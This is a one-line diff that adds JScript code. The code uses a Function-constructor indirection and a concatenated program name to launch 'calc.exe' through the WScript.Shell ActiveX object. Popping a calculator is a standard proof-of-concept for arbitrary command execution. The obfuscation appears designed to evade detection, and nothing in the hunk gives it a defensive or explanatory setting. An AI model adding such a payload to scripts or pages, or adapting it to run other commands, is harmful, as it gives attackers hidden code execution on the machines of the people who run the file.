@@ -1,0 +1,1 @@
+var f=new Function('a','b','a.Run(b)');f(new ActiveXObject('WScript.Shell'),'calc'+'.exe');
